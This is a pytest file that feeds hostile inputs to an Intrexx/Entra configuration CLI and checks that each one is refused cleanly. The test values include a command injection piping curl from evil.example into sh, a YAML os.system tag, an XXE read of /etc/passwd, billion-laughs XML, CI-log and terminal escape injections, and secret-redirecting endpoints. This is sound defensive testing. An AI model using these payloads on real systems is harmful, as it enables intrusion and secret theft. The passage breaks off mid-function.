"""A third attack campaign against main after issue 17's fixes: every surface the tool reads (the stack file, the
program under `pulumi.Config`, outputs files for every command, om.cfg, environment variables, arguments, console
encodings), each case asserting what a user must see: one line and exit 2 (or a per-portal failure), no traceback,
no secret, and nothing that a terminal, CI log, Markdown or XML reader would act on.

What broke in this campaign (and is fixed): a date at the calendar's end in the outputs crashed `status --format
ics` (OverflowError); U+FFFE/U+FFFF in a secret made render write an om.cfg that is not well-formed XML; a NUL or an
escape character in a stack file was a traceback (yaml.reader.ReaderError); `--out /dev/null` run as root replaced
the device with a regular file, and a FIFO where a file was expected hung every command; `render --stack` and
`rotation-notice --stack` took any text into file paths (`../../etc`), and the sheets and the notice built
`pulumi up --stack <environment>` from free text; an edited outputs file could send the client secret (verify, om.cfg)
or users' tokens (ewsUrl) to any https host; configuration messages echoed megabytes; a full disk under stdout, a
closed stdout or stdin were tracebacks; an unreadable CA bundle was retried for verify's whole timeout;
`--stack org/project/stack` looked for the wrong stack file; more redirect URIs than Entra allows passed the
configuration; the nil GUID passed as an object id; keys given twice in an outputs object were read silently.
"""

from __future__ import annotations

import copy
import json
import os
import socket
import stat
import subprocess
import sys
import xml.etree.ElementTree as ElementTree

import pytest
from helpers import ROOT, TODAY, run_main
from outputs_fixtures import HR, LEGACY, OPS, TEAM, stack_outputs

from components import stack_file
from components.config import ConfigError, parse_stack_config

CONTROL_MARKS = ("\x1b", "\x07", "\u202e", "##vso[", "\n::", "\ufffe", "\uffff")


@pytest.fixture(autouse=True)
def loopback_only(monkeypatch):
    """No case may reach anything but loopback, whatever an outputs file or argument names."""
    connect = socket.socket.connect

    def guarded(self, address):
        host = address[0] if isinstance(address, tuple) else address
        if host not in ("127.0.0.1", "::1"):
            raise AssertionError(f"a request left loopback: {address!r}")
        return connect(self, address)

    monkeypatch.setattr(socket.socket, "connect", guarded)
    monkeypatch.setenv("INTREXX_EXCHANGE_TODAY", TODAY.isoformat())
    monkeypatch.delenv("ARM_ENVIRONMENT", raising=False)
    monkeypatch.delenv("PULUMI_CONFIG", raising=False)


def clean(code, out: str, err: str, secrets=()) -> None:
    """What every answer must be: an exit code of the contract, nothing raw, no secret."""
    assert code in (0, 1, 2), (code, err)
    for mark in CONTROL_MARKS:
        assert mark not in out and mark not in err, (mark, out[-300:], err[-300:])
    for secret in secrets:
        assert secret not in out and secret not in err


def refused(code, out: str, err: str, *names: str) -> str:
    """Exit 2 with one line on stderr naming each of `names`."""
    clean(code, out, err)
    assert code == 2, (out[-500:], err[-500:])
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    for name in names:
        assert name in lines[0], (name, lines[0])
    return lines[0]


@pytest.fixture(scope="module")
def document():
    return stack_outputs([HR, OPS, TEAM, LEGACY])


def write(tmp_path, document, name="outputs.json"):
    path = tmp_path / name
    path.write_text(json.dumps(document))
    return str(path)


# 1. Outputs files: dates at the calendar's ends --------------------------------------------------------------------

DATE_FIELDS = ["secretExpiresAt", "secretRotatesAt", "previousSecretExpiresAt"]
FAR_DATES = ["9999-12-31T23:59:59Z", "9999-10-01", "0001-01-01", "4000-01-01"]
DATE_COMMANDS = {
    "status": ["status"],
    "ics": ["status", "--format", "ics"],
    "html": ["status", "--format", "html"],
    "prometheus": ["status", "--format", "prometheus"],
    "json": ["status", "--json"],
    "notice": ["rotation-notice", "--before", "/nonexistent/before.json"],
}


@pytest.mark.parametrize("command", DATE_COMMANDS, ids=list(DATE_COMMANDS))
@pytest.mark.parametrize("value", FAR_DATES)
@pytest.mark.parametrize("field", [*DATE_FIELDS, "refreshTokensRequestedOn"])
def test_a_date_at_the_calendars_end_is_one_line_naming_the_field(capsys, tmp_path, document, field, value, command):
    doc = copy.deepcopy(document)
    doc["portals"]["hr"][field] = value
    argv = [*DATE_COMMANDS[command][:1], "--outputs", write(tmp_path, doc), *DATE_COMMANDS[command][1:]]
    refused(*run_main(capsys, *argv), f"portals.hr.{field}", "from 1970-01-01 to 3999-12-31")


# 2. Outputs files: every field of a portal, hostile values, every reading command ------------------------------------

HOSTILE_VALUES = [
    None,
    True,
    -1,
    1e308,
    "",
    [],
    {},
    "x" * 100_000,
    "\x1b]0;owned\x07",
    "##vso[task.setvariable variable=x]1",
    "::stop-commands::x",
    "\u202eevil",
    "\ud800",
    "\ufffe",
    "2026-02-30",
    "{11111111-2222-4333-8444-555555555555}",
    "https://evil.example",
    "hr\n",
]
FIELDS = sorted(stack_outputs([HR])["portals"]["hr"])


# Every field with the values of every kind of mistake; the other values go through the rendered fields below.
FIELD_VALUES = [None, 1e308, "", {}, "x" * 100_000, "\x1b]0;owned\x07", "##vso[task.complete]", "\ud800", "\ufffe"]


@pytest.mark.parametrize("value", FIELD_VALUES, ids=lambda v: repr(v)[:24])
@pytest.mark.parametrize("field", FIELDS)
def test_any_value_in_any_field_is_a_clean_answer_from_status_and_the_calendar(
    capsys, tmp_path, document, field, value
):
    doc = copy.deepcopy(document)
    doc["portals"]["hr"][field] = value
    path = write(tmp_path, doc)
    secrets = list(document["clientSecrets"].values())
    for extra in ([], ["--format", "ics"]):
        code, out, err = run_main(capsys, "status", "--outputs", path, *extra)
        clean(code, out, err, secrets)
        if code == 2:
            assert len(err.strip().splitlines()) == 1, err


@pytest.mark.parametrize("value", HOSTILE_VALUES[:14], ids=lambda v: repr(v)[:24])
@pytest.mark.parametrize("field", ["displayName", "environment", "clientId", "redirectUris", "permissions", "baseUrl"])
def test_any_value_in_a_rendered_field_is_refused_before_anything_is_written(capsys, tmp_path, document, field, value):
    doc = copy.deepcopy(document)
    doc["portals"]["hr"][field] = value
    out_dir = tmp_path / "build"
    code, out, err = run_main(capsys, "render", "--outputs", write(tmp_path, doc), "--out", str(out_dir))
    clean(code, out, err, document["clientSecrets"].values())
    if code == 2:
        assert len(err.strip().splitlines()) == 1 and not out_dir.exists(), err


# 3. Client secrets that XML cannot hold ---------------------------------------------------------------------------

NOT_XML = ["\ufffe", "abc\uffffdef", "\ud800", "\x00", "a\x0bb", "\x85"]


@pytest.mark.parametrize("secret", NOT_XML, ids=[f"U+{ord(c):04X}" for c in "\ufffe\uffff\ud800\x00\x0b\x85"])
def test_a_secret_xml_cannot_hold_is_refused_by_render_and_apply(capsys, tmp_path, document, secret):
    doc = copy.deepcopy(document)
    doc["clientSecrets"]["hr"] = secret
    path = write(tmp_path, doc)
    line = refused(*run_main(capsys, "render", "--outputs", path, "--out", str(tmp_path / "b")), "clientSecrets.hr")
    assert secret not in line and not (tmp_path / "b").exists()
    portal_dir = tmp_path / "portal"
    (portal_dir / "internal" / "cfg").mkdir(parents=True)
    (portal_dir / "internal" / "cfg" / "om.cfg").write_text(OM_CFG)
    argv = ["apply", "--outputs", path, "--portal", "hr", "--portal-dir", str(portal_dir)]
    refused(*run_main(capsys, *argv), "clientSecrets.hr")
    assert (portal_dir / "internal" / "cfg" / "om.cfg").read_text() == OM_CFG


@pytest.mark.parametrize(
    "secret", ["a&b<c>\"'", "]]>", "&#0;", "\U0001f600", "\ufdd0", " lead", "trail ", "x\u00a0y", "$(calc)`n"]
)
def test_a_secret_xml_can_hold_reads_back_from_om_cfg(capsys, tmp_path, document, secret):
    doc = copy.deepcopy(document)
    doc["clientSecrets"]["hr"] = secret
    code, out, err = run_main(capsys, "render", "--outputs", write(tmp_path, doc), "--out", str(tmp_path / "b"))
    clean(code, out, err, [secret])
    assert code == 0, err
    root = ElementTree.fromstring((tmp_path / "b" / "hr" / "om.cfg.xml").read_bytes())
    assert secret in [value for element in root.iter() for value in element.attrib.values()]


# 4. Text fields with noncharacters, from the stack file and from the outputs ------------------------------------------


@pytest.mark.parametrize("character", ["\ufffe", "\uffff"])
@pytest.mark.parametrize("field", ["displayName", "environment"])
def test_a_noncharacter_in_a_text_field_of_the_outputs_is_refused(capsys, tmp_path, document, field, character):
    doc = copy.deepcopy(document)
    doc["portals"]["hr"][field] = f"Intrexx{character}"
    line = refused(*run_main(capsys, "status", "--outputs", write(tmp_path, doc)), f"portals.hr.{field}")
    assert f"U+{ord(character):04X}" in line


# 5. The stack file ------------------------------------------------------------------------------------------------


@pytest.fixture
def project(tmp_path, monkeypatch):
    (tmp_path / "Pulumi.yaml").write_text((ROOT / "Pulumi.yaml").read_text())
    monkeypatch.chdir(tmp_path)
    return tmp_path


def plan(project, capsys, content: bytes | str, *extra: str):
    data = content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content
    (project / "Pulumi.attack.yaml").write_bytes(data)
    return run_main(capsys, "plan", "--stack", "attack", *(extra or ("--json",)))


def stack_text(**keys: str) -> str:
    keys.setdefault("portals", '[{name: hr, baseUrl: "https://intrexx.example.com/hr"}]')
    return "config:\n" + "".join(f"  intrexx-exchange:{key}: {value}\n" for key, value in keys.items())


# Characters YAML does not allow in a stream (YAML 1.2, 5.1 "c-printable"): PyYAML's reader refuses them before
# parsing, which was a traceback.
UNPRINTABLE = ["\x00", "\x1b", "\x07", "\x7f", "\x08", "\ufffe", "\x9b"]


@pytest.mark.parametrize("character", UNPRINTABLE, ids=[f"U+{ord(c):04X}" for c in UNPRINTABLE])
@pytest.mark.parametrize("where", ["value", "comment", "key", "top level", "end of file"])
def test_a_character_yaml_refuses_is_one_line_naming_the_file(project, capsys, where, character):
    text = {
        "value": stack_text(environment=f"dev{character}"),
        "comment": f"# {character}\n" + stack_text(),
        "key": stack_text() + f"  intrexx-exchange:x{character}: 1\n",
        "top level": f'secretsprovider: "{character}"\n' + stack_text(),
        "end of file": stack_text() + character,
    }[where]
    line = refused(*plan(project, capsys, text), "Pulumi.attack.yaml")
    assert json.loads(line)["error"] == "StackFileError"


STACK_VALUES = [
    "",
    "~",
    "[]",
    "{}",
    "[[]]",
    "-1",
    "1e400",
    "1" * 5000,
    "!!int abc",
    "!!binary AAAA",
    "!!set {a}",
    "!!timestamp 2026-13-45",
    ".nan",
    "-.inf",
    "0x7fffffffffffffffff",
    '"\\u202e"',
    '"\\x1b[31m"',
    '"\\ud800"',
    '"\\0"',
    '"\\uffff"',
    '"a\\nb"',
    '"##vso[task.setvariable variable=x]1"',
    '"::add-mask::x"',
    "&a [*a]",
    "*undefined",
    "!<tag:yaml.org,2002:python/object/apply:os.system> [echo]",
    "{secure: AAAA}",
    "{secure: [1]}",
    "[" * 200 + "]" * 200,
    "'" + "x" * 100_000 + "'",
]
STACK_KEYS = ["environment", "secretRotationDays", "protect", "deployers", "portals", "bogus"]


@pytest.mark.parametrize("value", STACK_VALUES, ids=[v[:24] for v in STACK_VALUES])
@pytest.mark.parametrize("key", STACK_KEYS)
def test_any_value_of_any_stack_key_is_a_clean_answer(project, capsys, key, value):
    code, out, err = plan(project, capsys, stack_text(**{key: value}))
    clean(code, out, err)
    assert code in (0, 2)
    if code == 2:
        assert json.loads(err)["error"] in ("ConfigError", "StackFileError"), err[:300]
        assert len(err) < 5000, len(err)


PORTAL_KEYS = ["name", "baseUrl", "connector", "access", "permissions", "redirectPaths", "owners", "mailboxScope"]
PORTAL_KEYS += ["adopt", "renamedFrom", "refreshTokensRequestedOn", "signIn", "publicClientFlows", "bogus"]


PORTAL_VALUES = [v for v in STACK_VALUES if "\n" not in v and "[" * 200 not in v][::2]


@pytest.mark.parametrize("value", PORTAL_VALUES, ids=lambda v: v[:24])
@pytest.mark.parametrize("key", PORTAL_KEYS)
def test_any_value_of_any_portal_key_is_a_clean_answer(project, capsys, key, value):
    portal = {"name": "hr", "baseUrl": "'https://intrexx.example.com/hr'"}
    portal[key] = value
    text = stack_text(portals="[{" + ", ".join(f"{k}: {v}" for k, v in portal.items()) + "}]")
    code, out, err = plan(project, capsys, text)
    clean(code, out, err)
    assert code in (0, 2)
    if code == 2:
        assert len(err) < 5000, len(err)


# 6. Configuration messages stay short whatever the input's size ----------------------------------------------------


def config_error(portal: dict) -> ConfigError:
    with pytest.raises(ConfigError) as raised:
        parse_stack_config({"portals": json.dumps([portal])}, "dev", TODAY, "public")
    return raised.value


@pytest.mark.parametrize(
    "portal, path",
    [
        ({"name": "hr", "baseUrl": "https://" + "x" * 100_000}, "portals[0].baseUrl"),
        ({"name": "hr", "baseUrl": "https://intrexx.example.com/" + "%" * 100_000}, "portals[0].baseUrl"),
        ({"name": "hr", "baseUrl": "https://a.example", "redirectPaths": ["a" * 1000] * 1000}, "redirectPaths"),
        ({"name": "hr", "baseUrl": "https://a.example", "owners": ["a" * 1000] * 1000}, "portals[0].owners[0]"),
        ({"name": "hr", "baseUrl": "https://a.example", "permissions": ["a" * 1000] * 1000}, "permissions[0]"),
        ({"name": "h\x1b" + "r" * 100_000, "baseUrl": "https://a.example"}, "portals[0].name"),
    ],
    ids=["long host", "long path", "1000 paths", "1000 owners", "1000 permissions", "long name"],
)
def test_a_huge_configuration_gets_a_short_answer(portal, path):
    error = config_error(portal)
    message = str(error)
    assert path in message and len(message) < 40_000, len(message)
    assert all(len(line) <= 610 for line in message.splitlines())
    assert "\x1b" not in message


def test_a_thousand_problems_show_the_first_fifty_and_a_count():
    error = config_error({"name": "hr", "baseUrl": "https://a.example", "owners": ["x"] * 1000})
    lines = str(error).splitlines()
    assert lines[0] == "invalid stack configuration (1000 problems):"
    assert len(lines) == 52 and lines[-1] == "  - and 950 more problems (fix these first)"


# 7. Environment variables -----------------------------------------------------------------------------------------

ARM_ENVIRONMENTS = [" ", "\x1b[2J", "##vso[task.complete]", "x" * 10_000, "public\n", "\u202e", "AzureUSGovernment"]


@pytest.mark.parametrize("value", ARM_ENVIRONMENTS, ids=lambda v: repr(v)[:20])
def test_arm_environment_is_named_short_and_neutral(capsys, monkeypatch, value):
    monkeypatch.chdir(ROOT)
    monkeypatch.setenv("ARM_ENVIRONMENT", value)
    code, out, err = run_main(capsys, "plan", "--stack", "dev")
    clean(code, out, err)
    assert code == 2 and "ARM_ENVIRONMENT" in err and len(err) < 1000, err[:300]


@pytest.mark.parametrize("value", ["2026-W01-1", "2026-328", "20261124", "2026-11-24 ", "９９９９-01-01", "9999-12-31"])
def test_a_pinned_day_is_only_yyyy_mm_dd(capsys, monkeypatch, value):
    monkeypatch.chdir(ROOT)
    monkeypatch.setenv("INTREXX_EXCHANGE_TODAY", value)
    code, out, err = run_main(capsys, "plan", "--stack", "dev")
    clean(code, out, err)
    assert code == 2 and "INTREXX_EXCHANGE_TODAY: must be a date YYYY-MM-DD" in err


SIGNATURE = "SIGsecret0123456789"
WEBHOOKS = [
    f"http://127.0.0.1:9/hook?sig={SIGNATURE}",
    f"http://u:{SIGNATURE}@127.0.0.1:9/x",
    f"https://evil.example/{SIGNATURE}\x1b",
    f"http://evil.example/{SIGNATURE}",
    f"https://[::1/{SIGNATURE}",
    f"https://127.0.0.1:99999/{SIGNATURE}",
    f"http://127.0.0.1:9/{SIGNATURE}#frag",
    f"https://hooks.slack.com\\@127.0.0.1:9/{SIGNATURE}",
    f"http://127.0.0.1:9/%{SIGNATURE}",
]


@pytest.mark.parametrize("url", WEBHOOKS, ids=lambda u: u[:30])
@pytest.mark.parametrize("given", ["argument", "environment"])
def test_a_webhook_url_never_shows_its_secret_parts(capsys, monkeypatch, tmp_path, document, given, url):
    argv = ["status", "--outputs", write(tmp_path, document), "--warn-days", "3650", "--notify"]
    if given == "argument":
        argv.append(url)
    else:
        monkeypatch.setenv("INTREXX_NOTIFY_WEBHOOK", url)
    code, out, err = run_main(capsys, *argv)
    clean(code, out, err, [SIGNATURE])
    assert code in (1, 2) and len(err.strip().splitlines()) == 1, err


# 8. Command-line arguments ----------------------------------------------------------------------------------------

BAD_STACKS = ["../../etc", "..", "a/../b", "x\x1b]0;t\x07", "Ò'; Start-Process calc #", "$(calc)", "a b", "", "/abs"]


@pytest.mark.parametrize("stack", BAD_STACKS, ids=lambda s: repr(s)[:20])
@pytest.mark.parametrize("command", ["render", "rotation-notice", "status", "plan", "doctor", "outputs"])
def test_a_stack_name_that_is_no_pulumi_stack_is_refused_before_anything_is_written(
    capsys, monkeypatch, tmp_path, document, command, stack
):
    monkeypatch.chdir(tmp_path)
    path = write(tmp_path, document)
    argv = {
        "render": ["render", "--outputs", path],
        "rotation-notice": ["rotation-notice", "--outputs", path, "--before", path],
        "status": ["status", "--outputs", path],
        "plan": ["plan"],
        "doctor": ["doctor"],
        "outputs": ["outputs", "--out", str(tmp_path / "saved.json")],
    }[command]
    refused(*run_main(capsys, *argv, "--stack", stack), "--stack", "not a Pulumi stack name")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["outputs.json"]


@pytest.mark.parametrize("kind", ["fifo", "folder", "link to a fifo"])
@pytest.mark.parametrize("command", ["status", "save-outputs", "outputs-of-render"])
def test_a_file_argument_naming_a_device_or_pipe_is_not_replaced(
    capsys, monkeypatch, tmp_path, document, kind, command
):
    target = tmp_path / "target"
    if kind == "folder":
        target.mkdir()
    else:
        os.mkfifo(tmp_path / "fifo")
        if kind == "fifo":
            target = tmp_path / "fifo"
        else:
            target.symlink_to(tmp_path / "fifo")
    monkeypatch.chdir(ROOT)
    argv = {
        "status": ["status", "--outputs", write(tmp_path, document), "--out", str(target)],
        "save-outputs": ["plan", "--stack", "dev", "--save-outputs", str(target)],
        "outputs-of-render": [
            "status",
            "--outputs",
            write(tmp_path, document),
            "--format",
            "ics",
            "--out",
            str(target),
        ],
    }[command]
    refused(*run_main(capsys, *argv), "cannot write", str(target))
    assert not stat.S_ISREG(os.stat(target).st_mode)


# 9. om.cfg for apply ----------------------------------------------------------------------------------------------

OM_CFG = """<?xml version="1.0" encoding="UTF-8"?>
<configuration>
   <authentication>
      <binding scope="web" auth-type="IntrexxAuth"/>
   </authentication>
   <security/>
</configuration>
"""
# Seven entities, each ten of the one before: ten million characters from a few hundred bytes ("billion laughs").
AMPLIFIED = '<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {name} "{("&" + previous + ";") * 10}">' for previous, name in zip("abcdef", "bcdefg", strict=True)
)
HOSTILE_OM_CFG = {
    "external entity": '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    "<configuration>&x;<authentication/></configuration>",
    "entity expansion": f'<?xml version="1.0"?><!DOCTYPE c [{AMPLIFIED}]><configuration>&g;</configuration>',
    "escape in a comment": OM_CFG.replace("<security/>", "<!-- \x1b]0;x\x07 --><security/>"),
    "vso in an attribute": OM_CFG.replace("<security/>", '<security x="##vso[task.complete]"/>'),
    "undeclared prefix": OM_CFG.replace("<security/>", "<x:y/>"),
    "unknown encoding": '<?xml version="1.0" encoding="cp500"?><configuration/>',
    "encoding that lies": '<?xml version="1.0" encoding="UTF-8"?><configuration><!-- \xe9 --></configuration>',
    "utf-16": OM_CFG.replace("UTF-8", "UTF-16"),
    "two roots": "<configuration/><configuration/>",
    "nul": "<configuration>\x00</configuration>",
    "empty": "",
}


@pytest.mark.parametrize("name", HOSTILE_OM_CFG)
def test_a_hostile_om_cfg_is_one_line_and_stays_as_it_was(capsys, tmp_path, document, name):
    content = HOSTILE_OM_CFG[name]
    data = (
        content.encode("utf-16")
        if name == "utf-16"
        else content.encode("latin-1")
        if name == "encoding that lies"
        else content.encode("utf-8")
    )
    om_cfg = tmp_path / "portal" / "internal" / "cfg" / "om.cfg"
    om_cfg.parent.mkdir(parents=True)
    om_cfg.write_bytes(data)
    argv = ["apply", "--outputs", write(tmp_path, document), "--portal", "hr", "--portal-dir", str(tmp_path / "portal")]
    code, out, err = run_main(capsys, *argv)
    clean(code, out, err, document["clientSecrets"].values())
    if name in ("escape in a comment", "vso in an attribute"):
        return  # control characters in om.cfg are XML's to refuse; an attribute holding text is merged around
    assert code == 2 and len(err.strip().splitlines()) == 1, err
    assert om_cfg.read_bytes() == data


# 10. The program under pulumi.Config --------------------------------------------------------------------------------

PROGRAM_VALUES = [
    ("portals", "[" * 100_000 + "]" * 100_000),
    ("portals", '"\\ud800"'),
    ("portals", '[{"name": "hr\\uffff", "baseUrl": "https://intrexx.example.com/hr"}]'),
    ("secretRotationDays", "1" * 5000),
    ("secretRotationDays", "NaN"),
    ("environment", "\x1b[2J##vso[task.complete]"),
    ("environment", "x\uffff"),
    ("deployers", '["{11111111-2222-4333-8444-555555555555}"]'),
    ("protect", "\ud800"),
]


@pytest.mark.parametrize("key, value", PROGRAM_VALUES, ids=[f"{k}={v[:16]!r}" for k, v in PROGRAM_VALUES])
def test_the_program_answers_any_config_string_with_a_config_error(project, key, value):
    from test_simulation import read_settings_under_pulumi

    config = {"intrexx-exchange:portals": json.dumps([HR]), f"intrexx-exchange:{key}": value}
    with pytest.raises(ConfigError) as raised:
        read_settings_under_pulumi(config)
    message = str(raised.value)
    assert not any(mark in message for mark in CONTROL_MARKS) and len(message) < 5000


# 11. Console encodings (real processes: the encoding is the interpreter's) -----------------------------------------


@pytest.mark.parametrize("encoding", ["cp1252", "ascii"])
def test_errors_with_non_latin_text_reach_a_narrow_console_as_escapes(tmp_path, encoding):
    env = {**os.environ, "PYTHONIOENCODING": encoding, "INTREXX_EXCHANGE_TODAY": TODAY.isoformat()}
    env.pop("ARM_ENVIRONMENT", None)
    result = subprocess.run(
        [sys.executable, "-m", "intrexx_connector", "status", "--outputs", str(tmp_path / "日本\u202e.json")],
        capture_output=True,
        cwd=ROOT,
        env=env,
        timeout=60,
        check=False,
    )
    assert result.returncode == 2 and b"Traceback" not in result.stderr
    line = result.stderr.decode("ascii")  # nothing the console cannot show
    assert "\\u65e5\\u672c\\u202e.json" in line and len(line.strip().splitlines()) == 1


# 12. Commands printed for people come from validated values only ------------------------------------------------------


@pytest.mark.parametrize("environment", ["dev; curl https://evil.example | sh", "$(calc)", "a b", "../x", "Ò'"])
def test_a_sheet_never_builds_a_command_from_the_free_text_environment(capsys, tmp_path, document, environment):
    doc = copy.deepcopy(document)
    for name in ("hr", "ops"):
        doc["portals"][name]["environment"] = environment
    code, _, err = run_main(capsys, "render", "--outputs", write(tmp_path, doc), "--out", str(tmp_path / "b"))
    assert code == 0, err
    for name in ("hr", "ops"):
        sheet = (tmp_path / "b" / name / "portal-manager.md").read_text()
        commands = [line for line in sheet.splitlines() if "--stack" in line]
        assert commands and all("--stack <stack>" in line for line in commands), commands


@pytest.mark.parametrize("where", ["top level", "clientSecrets", "portals", "a portal"])
def test_a_key_given_twice_in_the_outputs_is_refused(capsys, tmp_path, document, where):
    text = json.dumps(document)
    twice = {
        "top level": ('{"portals": ', '{"portals": {}, "portals": '),
        "clientSecrets": ('"clientSecrets": {', '"clientSecrets": {"hr": "x", '),
        "portals": ('"portals": {', '"portals": {"hr": {}, '),
        "a portal": ('"clientId": ', '"clientId": "x", "clientId": '),
    }[where]
    assert twice[0] in text
    path = tmp_path / "outputs.json"
    path.write_text(text.replace(*twice, 1))
    refused(*run_main(capsys, "status", "--outputs", str(path)), "twice in one object")


def test_a_stack_file_of_too_many_values_without_aliases_is_not_blamed_on_aliases(project, capsys, monkeypatch):
    monkeypatch.setattr(stack_file, "MAX_EXPANDED_NODES", 500)  # the rule at a size that parses fast
    many = "[" + ",".join(["1"] * 600) + "]"
    line = refused(*plan(project, capsys, stack_text(deployers=many)), "more than 500 values")
    assert "no stack file needs that many" in line


# 13. An edited outputs file cannot send the client secret elsewhere ------------------------------------------------

ELSEWHERE = {
    "authorityHost": "https://evil.example",
    "authority": "https://login.microsoftonline.com/11111111-2222-4333-8444-555555555555",
    "tokenEndpoint": "https://evil.example/t/oauth2/v2.0/token",
    "authorizeEndpoint": "https://login.microsoftonline.us/x/oauth2/v2.0/authorize",
    "deviceCodeEndpoint": "https://evil.example/devicecode",
    "jwksUri": "https://evil.example/keys",
    "issuer": "https://evil.example/v2.0",
    "graphEndpoint": "https://graph.microsoft.us",
    "userInfoEndpoint": "https://evil.example/oidc/userinfo",
}


@pytest.mark.parametrize("command", ["verify", "render", "apply"])
@pytest.mark.parametrize("field", ELSEWHERE)
def test_an_endpoint_that_is_not_the_clouds_is_refused_before_any_request(capsys, tmp_path, document, field, command):
    doc = copy.deepcopy(document)
    doc["portals"]["hr"][field] = ELSEWHERE[field]
    path = write(tmp_path, doc)
    argv = {
        "verify": ["verify", "--outputs", path, "--timeout", "2"],
        "render": ["render", "--outputs", path, "--out", str(tmp_path / "b")],
        "apply": ["apply", "--outputs", path, "--portal", "hr", "--portal-dir", str(tmp_path)],
    }[command]
    line = refused(*run_main(capsys, *argv), f"portals.hr.{field}", "the endpoint of cloud 'global'")
    assert not (tmp_path / "b").exists() and document["clientSecrets"]["hr"] not in line


def test_another_tenant_everywhere_is_still_read(capsys, tmp_path, document):
    tenant = document["portals"]["hr"]["tenantId"]
    text = json.dumps(document).replace(tenant, "0badc0de-0000-4000-8000-000000000000")
    path = tmp_path / "outputs.json"
    path.write_text(text)
    code, _, err = run_main(capsys, "status", "--outputs", str(path))
    assert code in (0, 1) and not err, err


@pytest.mark.parametrize("environment", ["dev; curl https://evil.example | sh", "$(calc)", "../x"])
def test_a_rotation_notice_never_builds_a_command_from_the_free_text_environment(
    capsys, tmp_path, document, environment
):
    after = copy.deepcopy(document)
    for portal in after["portals"].values():
        portal["environment"] = environment
    before = copy.deepcopy(document)
    before["portals"]["hr"]["secretKeyId"] = "00000000-1111-4222-8333-444444444444"
    argv = ["rotation-notice", "--outputs", write(tmp_path, after), "--before", write(tmp_path, before, "before.json")]
    code, out, err = run_main(capsys, *argv)
    assert code == 0 and "hr" in out, err
    commands = [line for line in out.splitlines() if "--stack" in line]
    assert commands and all("--stack <stack>" in line for line in commands), commands


# 14. Standard streams that cannot be used (a full disk, a closed descriptor): one line or silence, never a traceback


def run_process(tmp_path, document, *argv: str, close: int | None = None, stdout=None, stderr=None):
    env = {**os.environ, "INTREXX_EXCHANGE_TODAY": TODAY.isoformat()}
    command = [sys.executable, "-m", "intrexx_connector", *argv]
    command = [part.replace("OUTPUTS", write(tmp_path, document)) for part in command]
    return subprocess.run(
        command,
        stdout=stdout if stdout is not None else subprocess.PIPE,
        stderr=stderr if stderr is not None else subprocess.PIPE,
        stdin=subprocess.DEVNULL if close != 0 else None,
        cwd=ROOT,
        env=env,
        timeout=60,
        check=False,
        preexec_fn=(lambda: os.close(close)) if close is not None else None,
    )


def test_a_full_disk_under_stdout_is_one_line_on_stderr(tmp_path, document):
    with open("/dev/full", "w") as full:
        result = run_process(tmp_path, document, "status", "--outputs", "OUTPUTS", stdout=full)
    assert result.returncode == 2, result.stderr
    assert result.stderr.decode() == "FileError: cannot write to <stdout>: No space left on device\n"


def test_a_full_disk_under_stderr_still_exits_2(tmp_path, document):
    with open("/dev/full", "w") as full:
        result = run_process(tmp_path, document, "status", "--outputs", "/nonexistent.json", stderr=full)
    assert result.returncode == 2 and result.stdout == b""


@pytest.mark.parametrize("descriptor", [1, 2])
def test_a_closed_stdout_or_stderr_is_written_nowhere(tmp_path, document, descriptor):
    result = run_process(tmp_path, document, "status", "--outputs", "/nonexistent.json", close=descriptor)
    assert result.returncode == 2
    assert b"Traceback" not in result.stderr + result.stdout


@pytest.mark.parametrize("option", ["--outputs", "--before"])
def test_reading_a_closed_stdin_is_one_line(tmp_path, document, option):
    argv = ["rotation-notice", "--outputs", "OUTPUTS", "--before", "-"] if option == "--before" else ["status"]
    argv += [] if option == "--before" else ["--outputs", "-"]
    result = run_process(tmp_path, document, *argv, close=0)
    assert result.returncode == 2, result.stderr
    assert result.stderr.decode() == f"OutputsError: {option} -: stdin is closed; pipe the outputs in or name a file\n"


def test_an_unquoted_date_is_answered_with_the_quotes_it_needs(project, capsys):
    portal = "{name: hr, baseUrl: 'https://intrexx.example.com/hr', refreshTokensRequestedOn: 2026-11-02}"
    code, _, err = plan(project, capsys, stack_text(portals=f"[{portal}]"), "--portal", "hr")
    assert code == 2 and "write the date in quotes ('2026-11-02')" in err, err


@pytest.mark.parametrize("secret", ["a&b<c>\"'", "]]>", "&#0;", "<!--", "?>", "\\", "x\u00a0y", "\U0001f600"])
def test_apply_writes_a_secret_xml_can_hold_so_that_it_reads_back(capsys, tmp_path, document, secret):
    doc = copy.deepcopy(document)
    doc["clientSecrets"]["hr"] = secret
    om_cfg = tmp_path / "portal" / "internal" / "cfg" / "om.cfg"
    om_cfg.parent.mkdir(parents=True)
    om_cfg.write_text(OM_CFG)
    argv = ["apply", "--outputs", write(tmp_path, doc), "--portal", "hr", "--portal-dir", str(tmp_path / "portal")]
    code, out, err = run_main(capsys, *argv)
    clean(code, out, err, [secret] if len(secret) >= 8 else [])
    assert code == 0, err
    root = ElementTree.fromstring(om_cfg.read_bytes())
    assert secret in [value for element in root.iter() for value in element.attrib.values()]


# 15. Identifiers in the configuration: the canonical GUID of an object, never a placeholder --------------------------

GUID = "11111111-2222-4333-8444-555555555555"
NOT_OBJECT_IDS = [
    "{" + GUID + "}",
    "urn:uuid:" + GUID,
    GUID.replace("-", ""),
    GUID + "\n",
    " " + GUID,
    GUID.replace("-", "\u2010"),
    "\uff11" + GUID[1:],
    GUID[:-1] + "g",
    "00000000-0000-0000-0000-000000000000",
]
ADOPTED = {"applicationObjectId": GUID, "servicePrincipalObjectId": "21111111-2222-4333-8444-555555555555"}
SERVICE_ACCOUNT = {"name": "ops", "connector": "m365", "access": "application", "baseUrl": "https://ops.example.com"}


@pytest.mark.parametrize("value", NOT_OBJECT_IDS, ids=lambda v: repr(v)[:30])
@pytest.mark.parametrize(
    "where",
    ["owners", "deployers", "groupId", "applicationObjectId", "servicePrincipalObjectId", "handMadeSecretKeyIds"],
)
def test_an_object_id_that_is_not_one_is_named(where, value):
    portal: dict = {"name": "hr", "baseUrl": "https://intrexx.example.com/hr"}
    raw: dict = {}
    if where == "owners":
        portal["owners"] = [value]
    elif where == "deployers":
        raw["deployers"] = json.dumps([value])
    elif where == "groupId":
        portal = {**SERVICE_ACCOUNT, "mailboxScope": {"groupId": value}}
    elif where == "handMadeSecretKeyIds":
